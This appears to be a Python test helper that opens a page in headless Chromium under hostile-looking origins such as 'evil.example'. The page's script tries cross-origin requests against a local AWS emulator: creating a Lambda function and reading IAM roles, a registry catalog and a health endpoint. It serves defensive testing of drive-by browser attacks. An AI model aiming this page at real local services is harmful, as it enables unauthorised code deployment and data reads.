"""Attacks the emulated AWS from a web page in a real browser."""

from __future__ import annotations

import json
import os
import queue
import subprocess
import threading
from collections.abc import Sequence
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

PAGE = """<!doctype html><script>
const emulator = %(emulator)s, body = %(function)s, origins = %(origins)s;
const text = {method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"}, body};
const json = {method: "POST", headers: {"Content-Type": "application/json"}, body};
const attempts = {
  "simple POST": ["/2015-03-31/functions", text],
  "preflighted POST": ["/2015-03-31/functions", json],
  "reading roles": ["/?Action=ListRoles&Version=2010-05-08", {}],
  "reading images": ["/v2/_catalog", {}],
  "reading health": ["/_ministack/health", {}],
};
(async () => {
  const saw = {};
  for (const [name, [path, options]] of Object.entries(attempts)) {
    try {
      const answer = await fetch(emulator + path, options);
      saw[name] = `${answer.type}, status ${answer.status}`;
    } catch (error) {
      saw[name] = String(error);
    }
  }
  await fetch("/saw", {method: "POST", body: JSON.stringify([location.hostname, saw])});
  const next = origins[origins.indexOf(location.hostname) + 1];
  if (next) location.hostname = next;
})();
</script>"""
BROWSER = (
    *("chromium", "--headless", "--disable-gpu", "--disable-quic", "--no-first-run"),
    "--disable-dev-shm-usage",
    *("--disable-background-networking", "--disable-component-update", "--disable-sync", "--no-proxy-server"),
)
SECONDS = 60


def visit(origins: Sequence[str], folder: Path, *, emulator: str, function: str) -> dict[str, dict[str, str]]:
    """Open the page with one host name after another, and return the result of each of its attempts by host name."""
    reports: queue.Queue[tuple[str, dict[str, str]]] = queue.Queue()
    values = {"emulator": emulator, "function": function, "origins": origins}
    page = PAGE % {name: json.dumps(value) for name, value in values.items()}

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(page.encode())

        def do_POST(self) -> None:
            reports.put(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
            self.send_response(204)
            self.end_headers()

        def log_message(self, *_: Any) -> None:
            """Be quiet."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    as_root = ["--no-sandbox"] if os.geteuid() == 0 else []
    browser = subprocess.Popen(
        [
            *BROWSER,
            *as_root,
            f"--user-data-dir={folder / 'profile'}",
            f"--host-resolver-rules=MAP evil.example 127.0.0.1:{server.server_port}",
            f"http://{origins[0]}:{server.server_port}/",
        ],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        return dict(reports.get(timeout=SECONDS) for _ in origins)
    finally:
        browser.terminate()
        browser.wait()
        server.shutdown()
        server.server_close()
